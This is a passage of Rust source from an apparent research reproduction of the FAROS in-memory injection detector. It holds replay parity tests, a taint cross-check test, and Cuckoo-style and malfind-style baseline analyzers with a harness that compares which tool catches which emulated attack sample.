//! may be *policy* — for any recording, the report assembled from a cached
//! replay must be byte-for-byte the report assembled from an interpreted
//! replay, across every section (taint detections, coverage diff, CFI
//! cross-check, metrics, and the deterministic profile).
//!
//! This test proves it for a representative slice: every injecting attack,
//! the self-modifying-code sample, both JIT compiler shapes, a ROP chain,
//! and a benign family variant. `faros-cli differential` extends the same
//! check to the full registry as a CI gate.

use faros::{analyze_recording, AnalysisConfig};
use faros_repro::corpus::{attacks, find_sample};
use faros_repro::kernel::machine::ExecMode;
use faros_repro::replay::{record, Scenario as _};

const BUDGET: u64 = 20_000_000;

#[test]
fn cached_and_interpreted_reports_are_byte_identical() {
    let mut samples = attacks::all_injecting_samples();
    for name in [
        "smc_patch_loop",
        "jit_pulleysystem", // copy-and-patch JIT (flagged FP class)
        "jit_gmail_com",    // template JIT (clean)
        "rop_pivot_chain",
        "laundered_reflective",
    ] {
        if let Some(s) = find_sample(name) {
            samples.push(s);
        } else {
            panic!("corpus sample {name} disappeared");
        }
    }

    for sample in &samples {
        let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
        let mut jsons = Vec::new();
        for exec in [ExecMode::Cached, ExecMode::Interpret] {
            let cfg = AnalysisConfig { profile: true, exec, ..AnalysisConfig::default() };
            let job = analyze_recording(&sample.scenario, &recording, &cfg).unwrap();
            jsons.push((exec, job.instructions, job.report.to_json().unwrap()));
        }
        let (_, cached_insns, cached_json) = &jsons[0];
        let (_, interp_insns, interp_json) = &jsons[1];
        assert_eq!(
            cached_insns,
            interp_insns,
            "{}: retired-instruction parity",
            sample.scenario.name()
        );
        assert_eq!(
            cached_json,
            interp_json,
            "{}: cached and interpreted reports diverged",
            sample.scenario.name()
        );
    }
}
