//! The static-vs-dynamic *taint* cross-check truth table.
//!
//! The dataflow engine's source→sink flow map gives every dynamic taint
//! alert a second, independent reading: an alert at an instruction the
//! static model says tainted data can reach is *statically explainable*;
//! an alert anywhere else (injected code outside every module, or module
//! code no modeled flow touches) is *statically impossible-per-model* —
//! an injection signal. The truth table: every injecting sample raises at
//! least one impossible alert, every non-injecting family variant none.

use faros_repro::analyze::{self, DynamicAlert, TaintCrossCheck};
use faros_repro::corpus::{attacks, families, Sample};
use faros_repro::faros::{Faros, Policy};
use faros_repro::replay::{record, replay, BlockCoverage, Scenario as _};

const BUDGET: u64 = 20_000_000;

fn cross_check(sample: &Sample) -> TaintCrossCheck {
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let mut faros = Faros::new(Policy::paper());
    replay(&sample.scenario, &recording, BUDGET, &mut faros).unwrap();
    let mut blocks = BlockCoverage::new();
    replay(&sample.scenario, &recording, BUDGET, &mut blocks).unwrap();
    let images = analyze::image_map(
        sample.scenario.programs().iter().map(|(p, i)| (p.as_str(), i.clone())),
    );
    let alerts: Vec<DynamicAlert> = faros
        .report()
        .detections
        .iter()
        .map(|d| DynamicAlert { process: d.process.clone(), va: d.insn_vaddr })
        .collect();
    analyze::taint_cross_check(&alerts, &blocks.into_processes(), &images)
}

#[test]
fn every_injecting_sample_raises_a_statically_impossible_alert() {
    for sample in attacks::all_injecting_samples() {
        let cc = cross_check(&sample);
        assert!(
            cc.injection_suspected(),
            "{}: the taint alerts fire in injected code, which the static \
             flow model cannot produce — expected >=1 impossible alert, got \
             {} explainable / {} impossible",
            sample.scenario.name(),
            cc.explainable_total(),
            cc.impossible_total(),
        );
    }
}

#[test]
fn family_variants_raise_no_statically_impossible_alerts() {
    let rows: Vec<_> =
        families::malware_rows().into_iter().chain(families::benign_rows()).collect();
    assert_eq!(rows.len(), 21, "the family corpus is part of the truth table");
    for family in rows {
        let sample = families::build_family_sample(&family, 0, 1);
        let cc = cross_check(&sample);
        assert_eq!(
            cc.impossible_total(),
            0,
            "{}: non-injecting family variant must have zero statically \
             impossible alerts",
            family.name,
        );
    }
}

#[test]
fn cross_check_attaches_to_the_faros_report() {
    let sample = attacks::reflective_dll_inject();
    let (recording, _) = record(&sample.scenario, BUDGET).unwrap();
    let mut faros = Faros::new(Policy::paper());
    replay(&sample.scenario, &recording, BUDGET, &mut faros).unwrap();
    let mut report = faros.report();

    let mut blocks = BlockCoverage::new();
    replay(&sample.scenario, &recording, BUDGET, &mut blocks).unwrap();
    let images = analyze::image_map(
        sample.scenario.programs().iter().map(|(p, i)| (p.as_str(), i.clone())),
    );
    let alerts: Vec<DynamicAlert> = report
        .detections
        .iter()
        .map(|d| DynamicAlert { process: d.process.clone(), va: d.insn_vaddr })
        .collect();
    let (taint, stats) =
        analyze::taint_cross_check_with_stats(&alerts, &blocks.into_processes(), &images);
    report.attach_taint(taint);

    // The analyze.* metrics ride the same report.
    let mut reg = faros_repro::obs::metrics::MetricsRegistry::new();
    stats.record_into(&mut reg);
    report.attach_metrics(reg.snapshot());

    assert!(report.attack_flagged());
    assert!(report.taint_suspicious());
    assert!(report.metrics.counter("analyze.functions").unwrap_or(0) > 0);
    assert!(report.to_table().contains("Impossible-per-model"));

    // And the section round-trips through the JSON report.
    let json = report.to_json().unwrap();
    let restored = faros_repro::faros::FarosReport::from_json(&json).unwrap();
    assert_eq!(report, restored);
}
