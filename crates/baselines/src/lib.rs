//! # faros-baselines — the comparison tools of §VI-B
//!
//! Reproductions of the two analyzer classes the paper compares FAROS
//! against:
//!
//! * [`cuckoo`] — a CuckooBox-style sandbox: syscall/file/process/network
//!   event collection with artifact-based detection (blind to
//!   in-memory-only behaviour);
//! * [`malfind`] — a Volatility/malfind-style snapshot scanner: hunts
//!   private executable regions containing decodable code in a one-shot
//!   memory dump (defeated by transient attacks, offers no provenance);
//! * [`comparison`] — the harness that runs a sample under all three
//!   analyzers (Cuckoo, malfind, FAROS) and tabulates who caught what.

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod comparison;
pub mod cuckoo;
pub mod malfind;

pub use comparison::{compare, render_table, ComparisonRow};
pub use cuckoo::{CuckooReport, CuckooSandbox};
pub use malfind::{scan, MalfindHit, MalfindReport, MatchCriterion};
