//! The CuckooBox / malfind / FAROS comparison harness (paper §VI-B).
//!
//! Runs a sample once under the Cuckoo-style sandbox (event view), scans
//! the final machine state with the malfind-style scanner (snapshot view),
//! replays the recording under FAROS (flow view), and cross-checks the
//! dynamically executed basic blocks against the static CFGs of the
//! sample's own module images (structure view), reporting who detected
//! what and who could provide provenance.

use crate::cuckoo::CuckooSandbox;
use crate::malfind;
use faros_corpus::Sample;
use faros_replay::{record, replay};
use std::fmt;

/// Comparison outcome for one sample.
#[derive(Debug, Clone, PartialEq)]
pub struct ComparisonRow {
    /// Sample name.
    pub sample: String,
    /// Ground truth: is it an in-memory injection attack?
    pub is_attack: bool,
    /// Cuckoo-style event analysis flagged it.
    pub cuckoo: bool,
    /// malfind-style snapshot scan flagged it.
    pub malfind: bool,
    /// FAROS flagged it.
    pub faros: bool,
    /// FAROS provided a netflow/process provenance chain.
    pub faros_provenance: bool,
    /// The static-vs-dynamic coverage cross-check found executed blocks
    /// unaccounted for by any loaded module's static CFG.
    pub coverage_gap: bool,
    /// The dynamic CFI cross-check found an indirect transfer or return
    /// violating the static control-flow model — the only signal that
    /// sees pure code reuse (ROP/JOP), which executes image-backed bytes
    /// exclusively.
    pub cfi_violation: bool,
}

impl fmt::Display for ComparisonRow {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fn mark(b: bool) -> &'static str {
            if b {
                "X"
            } else {
                "-"
            }
        }
        write!(
            f,
            "{:<24} | {:^6} | {:^7} | {:^8} | {:^3} | {:^5} | {:^10}",
            self.sample,
            mark(self.cuckoo),
            mark(self.malfind),
            mark(self.coverage_gap),
            mark(self.cfi_violation),
            mark(self.faros),
            mark(self.faros_provenance),
        )
    }
}

/// Error running a comparison.
#[derive(Debug, Clone)]
pub struct ComparisonError(pub String);

impl fmt::Display for ComparisonError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "comparison failed: {}", self.0)
    }
}

impl std::error::Error for ComparisonError {}

/// Runs the three analyzers over one sample.
///
/// # Errors
///
/// Returns [`ComparisonError`] if the scenario fails to build or a replay
/// diverges.
pub fn compare(sample: &Sample, budget: u64) -> Result<ComparisonRow, ComparisonError> {
    use faros_replay::Scenario as _;
    // 1. Record once with the Cuckoo sandbox watching (Cuckoo runs live on
    //    the victim VM).
    let (recording, _live) =
        record(&sample.scenario, budget).map_err(|e| ComparisonError(e.to_string()))?;
    let mut cuckoo = CuckooSandbox::new();
    let outcome = replay(&sample.scenario, &recording, budget, &mut cuckoo)
        .map_err(|e| ComparisonError(e.to_string()))?;
    let cuckoo_detected = cuckoo.report().detects_injection();

    // 2. malfind scans the final memory state (the "memory dump").
    let malfind_report = malfind::scan(&outcome.machine);

    // 3. FAROS replays the same recording.
    let mut faros = faros::Faros::new(faros::Policy::paper());
    replay(&sample.scenario, &recording, budget, &mut faros)
        .map_err(|e| ComparisonError(e.to_string()))?;
    let faros_report = faros.report();

    // 4. The static-vs-dynamic cross-check: record executed basic-block
    //    starts and diff them against the static CFGs of the sample's own
    //    module images. Injected code executes outside every image.
    let mut blocks = faros_replay::BlockCoverage::new();
    replay(&sample.scenario, &recording, budget, &mut blocks)
        .map_err(|e| ComparisonError(e.to_string()))?;
    // The analyzer sees everything on disk: the sample's program images
    // plus any file the run dropped that parses as FDL (a dropped DLL is a
    // disk artifact static analysis *can* chart — unlike reflective code).
    let mut on_disk: Vec<(String, faros_kernel::module::FdlImage)> = sample
        .scenario
        .programs()
        .iter()
        .map(|(path, image)| (path.clone(), image.clone()))
        .collect();
    for path in outcome.machine.fs.list("") {
        let Ok(info) = outcome.machine.fs.info(&path) else { continue };
        let Ok(bytes) = outcome.machine.fs.read(&path, 0, info.size as usize) else {
            continue;
        };
        if let Ok(image) = faros_kernel::module::FdlImage::parse(&bytes) {
            on_disk.push((path, image));
        }
    }
    let images = faros_analyze::image_map(on_disk);
    let coverage = faros_analyze::diff(&blocks.into_processes(), &images);

    // 5. The CFI cross-check: observe every indirect transfer and return,
    //    then validate each against the static control-flow model of the
    //    same image set (fused with FAROS's taint view of the transfer
    //    targets). Code reuse is invisible to every view above — no
    //    foreign bytes to dump, no unaccounted blocks — but not to this
    //    one.
    let mut monitor = faros_replay::CfiMonitor::new();
    replay(&sample.scenario, &recording, budget, &mut monitor)
        .map_err(|e| ComparisonError(e.to_string()))?;
    let cfi =
        faros_analyze::cfi::check(&monitor.into_processes(), &images, faros.tainted_transfers());

    Ok(ComparisonRow {
        sample: sample.scenario.name().to_string(),
        is_attack: sample.category.is_attack(),
        cuckoo: cuckoo_detected,
        malfind: malfind_report.detects_injection(),
        faros: faros_report.attack_flagged(),
        faros_provenance: faros_report
            .detections
            .iter()
            .any(|d| d.code_provenance.contains("->")),
        coverage_gap: coverage.injection_suspected(),
        cfi_violation: cfi.violation_found(),
    })
}

/// Renders comparison rows as the §VI-B discussion table.
pub fn render_table(rows: &[ComparisonRow]) -> String {
    let mut out = String::new();
    out.push_str(
        "Sample                   | Cuckoo | malfind | coverage | CFI | FAROS | provenance\n",
    );
    out.push_str(
        "-------------------------+--------+---------+----------+-----+-------+-----------\n",
    );
    for row in rows {
        out.push_str(&row.to_string());
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_corpus::attacks;

    const BUDGET: u64 = 20_000_000;

    #[test]
    fn faros_beats_baselines_on_reflective_injection() {
        let row = compare(&attacks::reflective_dll_inject(), BUDGET).unwrap();
        assert!(row.is_attack);
        assert!(!row.cuckoo, "event-based analysis misses in-memory injection");
        assert!(row.malfind, "the persistent payload is visible in the dump");
        assert!(row.coverage_gap, "payload blocks execute outside every module image");
        assert!(row.faros);
        assert!(row.faros_provenance, "only FAROS explains where the code came from");
    }

    #[test]
    fn only_faros_catches_the_transient_attack() {
        let row = compare(&attacks::transient_reflective(), BUDGET).unwrap();
        assert!(!row.cuckoo);
        assert!(!row.malfind, "wiped payload defeats the snapshot scanner");
        assert!(
            row.coverage_gap,
            "unlike the snapshot, the coverage check saw the blocks execute"
        );
        assert!(row.faros, "FAROS saw the flow while it happened");
    }

    #[test]
    fn table_renders_all_rows() {
        let rows = vec![ComparisonRow {
            sample: "x".into(),
            is_attack: true,
            cuckoo: false,
            malfind: true,
            faros: true,
            faros_provenance: true,
            coverage_gap: true,
            cfi_violation: false,
        }];
        let table = render_table(&rows);
        assert!(table.contains("Cuckoo"));
        assert!(table.contains("coverage"));
        assert!(table.contains("CFI"));
        assert!(table.contains('x'));
    }
}

#[cfg(test)]
mod reuse_tests {
    use super::*;
    use faros_corpus::reuse;

    const BUDGET: u64 = 20_000_000;

    #[test]
    fn only_the_cfi_check_sees_code_reuse() {
        // ROP/JOP is the blind spot of every byte-centric view: no foreign
        // bytes exist for malfind to dump, no unaccounted blocks for the
        // coverage diff, no write-then-execute confluence for FAROS's
        // taint verdict. The CFI cross-check alone flags it.
        for sample in reuse::reuse_attack_samples() {
            let row = compare(&sample, BUDGET).unwrap();
            assert!(row.is_attack, "{}: reuse is ground-truth attack", row.sample);
            assert!(!row.cuckoo, "{}: no suspicious event sequence", row.sample);
            assert!(!row.malfind, "{}: no foreign bytes in the dump", row.sample);
            assert!(!row.coverage_gap, "{}: every block is image-backed", row.sample);
            assert!(!row.faros, "{}: no write-then-execute confluence", row.sample);
            assert!(row.cfi_violation, "{}: the CFI check must catch it", row.sample);
        }
    }

    #[test]
    fn dense_indirect_foils_draw_no_cfi_column() {
        for sample in reuse::reuse_benign_samples() {
            let row = compare(&sample, BUDGET).unwrap();
            assert!(!row.is_attack);
            assert!(!row.cfi_violation, "{}: benign foil tripped CFI", row.sample);
            assert!(!row.faros && !row.malfind, "{}: benign foil flagged", row.sample);
        }
    }
}

#[cfg(test)]
mod dropped_dll_tests {
    use super::*;
    use faros_corpus::dll;

    #[test]
    fn dropped_dll_is_cuckoos_catch_not_faros() {
        // The complementary threat models of §II: disk-dropping malware is
        // the classic case event tools own and FAROS scopes out.
        let row = compare(&dll::dropped_dll_attack(), 20_000_000).unwrap();
        assert!(row.cuckoo, "the dropped .dll artifact is Cuckoo's bread and butter");
        assert!(!row.faros, "registered, disk-backed loading is no confluence");
        assert!(
            !row.coverage_gap,
            "disk-backed module code is fully charted by the static CFGs"
        );
    }
}
