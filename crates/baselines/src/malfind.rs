//! A Volatility/malfind-style memory snapshot scanner (paper §VI-B).
//!
//! malfind inspects a memory dump taken at one point in time: it walks each
//! process's VAD tree looking for *private, executable* regions containing
//! plausible code — the signature injected payloads leave behind. Its two
//! structural weaknesses, both demonstrated by the comparison harness:
//!
//! * **transience** — "once the malicious payload is injected and executed,
//!   there is nothing stopping the attacker from cleaning up memory before
//!   the VM is stopped" (§I): a wiped payload leaves no decodable code;
//! * **no provenance** — even on a hit, the dump cannot say where the bytes
//!   came from (no netflow, no injector process chain).

use faros_emu::encode::decode;
use faros_emu::mem::{PAGE_SIZE, PAGE_MASK};
use faros_kernel::machine::Machine;
use faros_kernel::process::RegionKind;
use faros_kernel::Pid;

/// One criterion of the scanner that a flagged region satisfied — the
/// "why was this flagged" provenance a bare hit list lacks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MatchCriterion {
    /// The VAD maps the region executable (the `X` protection flag).
    Executable,
    /// The region is a private (anonymous) allocation, not image- or
    /// file-backed.
    PrivateAllocation,
    /// The region head decodes as a run of this many real (non-`nop`)
    /// instructions.
    DecodesAsCode {
        /// Instructions decoded from the window.
        instructions: u32,
    },
    /// The window holds this many non-zero bytes (not a wiped page).
    NonZeroContent {
        /// Non-zero bytes in the window.
        bytes: u32,
    },
}

impl std::fmt::Display for MatchCriterion {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            MatchCriterion::Executable => write!(f, "executable VAD protection"),
            MatchCriterion::PrivateAllocation => write!(f, "private allocation"),
            MatchCriterion::DecodesAsCode { instructions } => {
                write!(f, "{instructions} instructions decode")
            }
            MatchCriterion::NonZeroContent { bytes } => {
                write!(f, "{bytes} non-zero bytes")
            }
        }
    }
}

/// One suspicious region found in the snapshot.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MalfindHit {
    /// Owning process.
    pub pid: Pid,
    /// Process image name.
    pub process: String,
    /// Region base virtual address.
    pub base: u32,
    /// Region size.
    pub size: u32,
    /// Rendered permissions (e.g. `rwx`).
    pub perms: String,
    /// Count of instructions that decoded cleanly from the region head.
    pub decoded_instructions: u32,
    /// Hexdump of the first bytes (the analyst-facing preview malfind
    /// prints).
    pub preview: String,
    /// Disassembly listing of the region head (the way Volatility renders a
    /// hit), one line per instruction.
    pub disassembly: Vec<String>,
    /// The criteria this region matched — the section flags and content
    /// evidence that made the scanner flag it.
    pub matched: Vec<MatchCriterion>,
}

/// The scanner's report for one snapshot.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct MalfindReport {
    /// All hits, in (pid, base) order.
    pub hits: Vec<MalfindHit>,
}

impl MalfindReport {
    /// Returns `true` if any injected-looking region was found.
    pub fn detects_injection(&self) -> bool {
        !self.hits.is_empty()
    }

    /// Like Cuckoo, a dump-based tool has no flow history to offer.
    pub fn has_payload_provenance(&self) -> bool {
        false
    }

    /// Renders the report the way Volatility prints malfind hits: one
    /// block per region with permissions, a hex preview, and a
    /// disassembly listing.
    pub fn render(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        if self.hits.is_empty() {
            out.push_str("malfind: no suspicious regions\n");
            return out;
        }
        for h in &self.hits {
            let _ = writeln!(
                out,
                "Process: {} Pid: {} Address: {:#010x} ({} bytes, {})",
                h.process, h.pid.0, h.base, h.size, h.perms
            );
            let matched: Vec<String> =
                h.matched.iter().map(|m| m.to_string()).collect();
            let _ = writeln!(out, "  Matched: {}", matched.join(", "));
            let _ = writeln!(out, "  {}", h.preview);
            for line in &h.disassembly {
                let _ = writeln!(out, "  {line}");
            }
            out.push('\n');
        }
        out
    }
}

/// Minimum cleanly-decodable instructions for a region head to count as
/// code.
const MIN_DECODED: u32 = 6;

/// Minimum non-zero bytes in the preview window — an all-zero (wiped) page
/// technically decodes as a run of `nop`s but is not code.
const MIN_NONZERO: usize = 8;

/// Bytes examined at the head of each region.
const WINDOW: usize = 96;

/// Scans a machine's final state the way malfind scans a memory dump.
///
/// Every process (alive or exited — their page tables are still in the
/// dump) is walked; private executable regions whose head decodes as FE32
/// code are reported.
pub fn scan(machine: &Machine) -> MalfindReport {
    let mut report = MalfindReport::default();
    for proc in machine.processes() {
        for region in &proc.regions {
            let executable = region.perms.contains(faros_emu::mmu::Perms::X);
            let private = matches!(region.kind, RegionKind::Private);
            if !executable || !private {
                continue;
            }
            // Read the region head through the page tables.
            let mut window = Vec::with_capacity(WINDOW);
            for i in 0..WINDOW as u32 {
                let va = region.base + i;
                let Some(entry) = proc.aspace.entry(va) else {
                    break;
                };
                let phys = entry.pfn * PAGE_SIZE + (va & PAGE_MASK);
                match machine.mem.read_u8(phys) {
                    Ok(b) => window.push(b),
                    Err(_) => break,
                }
            }
            let nonzero = window.iter().filter(|&&b| b != 0).count();
            if nonzero < MIN_NONZERO {
                continue; // wiped or never-used page
            }
            // Try to decode a run of instructions from the head.
            let mut off = 0usize;
            let mut decoded = 0u32;
            while off < window.len() {
                match decode(&window[off..]) {
                    Ok((instr, len)) => {
                        // Runs of NOPs (zero bytes) don't count as code.
                        if !matches!(instr, faros_emu::isa::Instr::Nop) {
                            decoded += 1;
                        }
                        off += len;
                    }
                    Err(_) => break,
                }
            }
            if decoded < MIN_DECODED {
                continue;
            }
            let preview: String = window
                .iter()
                .take(16)
                .map(|b| format!("{b:02x}"))
                .collect::<Vec<_>>()
                .join(" ");
            let disassembly: Vec<String> = faros_emu::encode::disassemble(&window, region.base)
                .into_iter()
                .take(8)
                .map(|(addr, instr)| format!("{addr:#010x}  {instr}"))
                .collect();
            report.hits.push(MalfindHit {
                pid: proc.pid,
                process: proc.name.clone(),
                base: region.base,
                size: region.size,
                perms: region.perms.to_string(),
                decoded_instructions: decoded,
                preview,
                disassembly,
                matched: vec![
                    MatchCriterion::Executable,
                    MatchCriterion::PrivateAllocation,
                    MatchCriterion::DecodesAsCode { instructions: decoded },
                    MatchCriterion::NonZeroContent { bytes: nonzero as u32 },
                ],
            });
        }
    }
    report.hits.sort_by_key(|h| (h.pid.0, h.base));
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_corpus::attacks;
    use faros_kernel::event::NullObserver;
    use faros_kernel::machine::RunExit;
    use faros_kernel::net::NetworkFabric;
    use faros_replay::Scenario as _;

    fn run_to_completion(sample: &faros_corpus::Sample) -> Machine {
        let fabric = NetworkFabric::new_live(sample.scenario.guest_ip());
        let mut obs = NullObserver;
        let mut obs_dyn: &mut dyn faros_kernel::event::Observer = &mut obs;
        let mut machine = sample.scenario.build(fabric, &mut obs_dyn).unwrap();
        assert_eq!(machine.run(20_000_000, &mut NullObserver), RunExit::AllExited);
        machine
    }

    #[test]
    fn finds_persistent_injected_region() {
        let machine = run_to_completion(&attacks::reflective_dll_inject());
        let report = scan(&machine);
        assert!(report.detects_injection());
        let hit = report
            .hits
            .iter()
            .find(|h| h.process == "notepad.exe")
            .expect("the injected RWX region in notepad must be found");
        assert_eq!(hit.base, attacks::PAYLOAD_BASE);
        assert!(hit.perms.contains('x'));
        assert!(hit.decoded_instructions >= MIN_DECODED);
        assert!(!report.has_payload_provenance());
    }

    #[test]
    fn hits_report_the_flags_they_matched_on() {
        let machine = run_to_completion(&attacks::reflective_dll_inject());
        let report = scan(&machine);
        let hit = report
            .hits
            .iter()
            .find(|h| h.process == "notepad.exe")
            .expect("the injected region must be found");
        assert!(hit.matched.contains(&MatchCriterion::Executable));
        assert!(hit.matched.contains(&MatchCriterion::PrivateAllocation));
        assert!(hit.matched.iter().any(|m| matches!(
            m,
            MatchCriterion::DecodesAsCode { instructions } if *instructions >= MIN_DECODED
        )));
        assert!(hit.matched.iter().any(|m| matches!(
            m,
            MatchCriterion::NonZeroContent { bytes } if *bytes as usize >= MIN_NONZERO
        )));
        let rendered = report.render();
        assert!(rendered.contains("executable VAD protection"));
        assert!(rendered.contains("private allocation"));
    }

    #[test]
    fn misses_transient_attack() {
        // The paper's core argument for whole-system DIFT: snapshot tools
        // only see one point in time.
        let machine = run_to_completion(&attacks::transient_reflective());
        let report = scan(&machine);
        let notepad_hits: Vec<_> = report
            .hits
            .iter()
            .filter(|h| h.process == "notepad.exe")
            .collect();
        assert!(
            notepad_hits.is_empty(),
            "the wiped payload must be invisible to the snapshot scanner: {notepad_hits:?}"
        );
    }

    #[test]
    fn render_prints_volatility_style_blocks() {
        let machine = run_to_completion(&attacks::reflective_dll_inject());
        let report = scan(&machine);
        let rendered = report.render();
        assert!(rendered.contains("Process: notepad.exe"));
        assert!(rendered.contains("Address: 0x01000000"));
        assert!(rendered.contains("rwx"));
        assert!(
            MalfindReport::default().render().contains("no suspicious regions")
        );
    }

    #[test]
    fn clean_machine_has_no_hits() {
        use faros_corpus::SampleScenario;
        let scenario = SampleScenario::new("clean")
            .program("C:/notepad.exe", attacks::benign_victim("notepad", 3))
            .autostart("C:/notepad.exe");
        let fabric = NetworkFabric::new_live(scenario.guest_ip());
        let mut obs = NullObserver;
        let mut obs_dyn: &mut dyn faros_kernel::event::Observer = &mut obs;
        let mut machine = scenario.build(fabric, &mut obs_dyn).unwrap();
        assert_eq!(machine.run(20_000_000, &mut NullObserver), RunExit::AllExited);
        assert!(!scan(&machine).detects_injection());
    }

    #[test]
    fn finds_hollowed_region() {
        let machine = run_to_completion(&attacks::process_hollowing());
        let report = scan(&machine);
        assert!(report
            .hits
            .iter()
            .any(|h| h.process == "svchost.exe"));
    }
}
