//! A CuckooBox-style sandbox analyzer (paper §VI-B).
//!
//! Cuckoo-class tools observe *externally visible events*: system calls,
//! file-system activity, process creation, module (DLL) lists, and network
//! traffic. They do not see memory contents or information flow, which is
//! why in-memory-only injections evade them: the paper "failed to identify
//! a trace of \[the\] DLL under the DLL list either under the injector or the
//! victim process".
//!
//! This reproduction collects exactly that event surface and applies the
//! corresponding artifact-based detection logic, so the comparison harness
//! can demonstrate the same blind spot faithfully.

use faros_emu::cpu::CpuHooks;
use faros_kernel::event::{ByteRange, KernelEvents};
use faros_kernel::module::ModuleInfo;
use faros_kernel::net::FlowTuple;
use faros_kernel::nt::{NtStatus, Sysno};
use faros_kernel::process::ProcessInfo;
use faros_kernel::{Pid, Tid};
use faros_replay::Plugin;
use std::collections::{BTreeMap, BTreeSet};

/// One syscall trace entry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SyscallEntry {
    /// Calling process.
    pub pid: Pid,
    /// Service invoked.
    pub sysno: Sysno,
    /// Completion status.
    pub status: NtStatus,
}

/// The sandbox report: the information a Cuckoo-class tool hands the
/// analyst.
#[derive(Debug, Clone, Default)]
pub struct CuckooReport {
    /// Full syscall trace, in order.
    pub syscalls: Vec<SyscallEntry>,
    /// Process list (name by pid) — the `pslist` view.
    pub pslist: BTreeMap<u32, String>,
    /// Modules (DLL list) per process — the `dlllist` view.
    pub dll_lists: BTreeMap<u32, Vec<String>>,
    /// Files created or written, with writer pid.
    pub files_touched: Vec<(u32, String)>,
    /// Files deleted.
    pub files_deleted: Vec<(u32, String)>,
    /// Network flows observed (remote `ip:port` strings) with byte counts.
    pub netflows: BTreeMap<String, u64>,
    /// Console output captured.
    pub console: Vec<(u32, String)>,
}

impl CuckooReport {
    /// The artifact-based injection check a Cuckoo-class tool can make
    /// *without* memory visibility: did any module get loaded into a victim
    /// process from disk after process start, or did a monitored loader
    /// leave its payload on the filesystem?
    ///
    /// In-memory injections do neither, so this returns `false` for every
    /// attack in the corpus — reproducing the paper's finding that "without
    /// the malfind plugin ... CuckooBox could not flag the attack".
    pub fn detects_injection(&self) -> bool {
        // A DLL list entry that appeared without a corresponding image file
        // would be the tell — but reflectively injected code never registers
        // a module, so the lists only ever contain disk-backed images.
        let phantom_module = self
            .dll_lists
            .values()
            .flatten()
            .any(|m| m.starts_with("<memory>"));
        // Dropped-payload heuristic: an executable written to disk by a
        // process that also spawned something.
        let dropped_exe = self
            .files_touched
            .iter()
            .any(|(_, path)| path.ends_with(".exe") || path.ends_with(".dll"));
        phantom_module || dropped_exe
    }

    /// Whether the report can attribute observed behaviour to a network
    /// origin (Cuckoo sees flows but cannot connect them to memory
    /// contents; the answer for injected-payload questions is always no).
    pub fn has_payload_provenance(&self) -> bool {
        false
    }

    /// Total syscalls traced.
    pub fn syscall_count(&self) -> usize {
        self.syscalls.len()
    }
}

/// The sandbox observer. Attach to a run (live or replay); extract the
/// report afterwards.
#[derive(Debug, Default)]
pub struct CuckooSandbox {
    report: CuckooReport,
    seen_flows: BTreeSet<String>,
}

impl CuckooSandbox {
    /// Creates an empty sandbox.
    pub fn new() -> CuckooSandbox {
        CuckooSandbox::default()
    }

    /// The report collected so far.
    pub fn report(&self) -> &CuckooReport {
        &self.report
    }

    /// Consumes the sandbox, returning the report.
    pub fn into_report(self) -> CuckooReport {
        self.report
    }
}

impl CpuHooks for CuckooSandbox {}

impl KernelEvents for CuckooSandbox {
    fn syscall_exit(&mut self, pid: Pid, _tid: Tid, sysno: Sysno, status: NtStatus) {
        self.report.syscalls.push(SyscallEntry { pid, sysno, status });
    }

    fn process_created(&mut self, info: &ProcessInfo) {
        self.report.pslist.insert(info.pid.0, info.name.clone());
    }

    fn module_loaded(&mut self, pid: Option<Pid>, module: &ModuleInfo, _table: &[ByteRange]) {
        if let Some(pid) = pid {
            self.report
                .dll_lists
                .entry(pid.0)
                .or_default()
                .push(module.name.clone());
        }
    }

    fn file_write(&mut self, pid: Pid, path: &str, _version: u32, _src: &[ByteRange]) {
        self.report.files_touched.push((pid.0, path.to_string()));
    }

    fn syscall_enter(&mut self, pid: Pid, _tid: Tid, sysno: Sysno, _args: &[u32; 5]) {
        // Track deletions at the request level (the file is gone by exit).
        if sysno == Sysno::NtDeleteFile {
            self.report.files_deleted.push((pid.0, String::new()));
        }
    }

    fn net_rx(&mut self, _pid: Pid, flow: &FlowTuple, dst: &[ByteRange]) {
        let key = format!(
            "{}.{}.{}.{}:{}",
            flow.src_ip[0], flow.src_ip[1], flow.src_ip[2], flow.src_ip[3], flow.src_port
        );
        self.seen_flows.insert(key.clone());
        let bytes: u64 = dst.iter().map(|r| u64::from(r.len)).sum();
        *self.report.netflows.entry(key).or_insert(0) += bytes;
    }

    fn console_output(&mut self, pid: Pid, text: &str) {
        self.report.console.push((pid.0, text.to_string()));
    }
}

impl Plugin for CuckooSandbox {
    fn name(&self) -> &str {
        "cuckoo"
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_report_detects_nothing() {
        let report = CuckooReport::default();
        assert!(!report.detects_injection());
        assert!(!report.has_payload_provenance());
        assert_eq!(report.syscall_count(), 0);
    }

    #[test]
    fn dropped_executable_is_detected() {
        let mut report = CuckooReport::default();
        report.files_touched.push((1, "C:/temp/stage2.exe".to_string()));
        assert!(report.detects_injection(), "disk artifacts are Cuckoo's bread and butter");
    }

    #[test]
    fn collects_events() {
        let mut sandbox = CuckooSandbox::new();
        sandbox.syscall_exit(Pid(1), Tid(1), Sysno::NtClose, NtStatus::Success);
        sandbox.process_created(&ProcessInfo {
            pid: Pid(1),
            cr3: 0x2000,
            name: "a.exe".into(),
            parent: None,
        });
        sandbox.console_output(Pid(1), "hi");
        let report = sandbox.into_report();
        assert_eq!(report.syscall_count(), 1);
        assert_eq!(report.pslist[&1], "a.exe");
        assert_eq!(report.console, vec![(1, "hi".to_string())]);
    }
}
