//! Failure-injection tests for the syscall surface: bad handles, bad
//! pointers, refused connections, permission violations — the kernel must
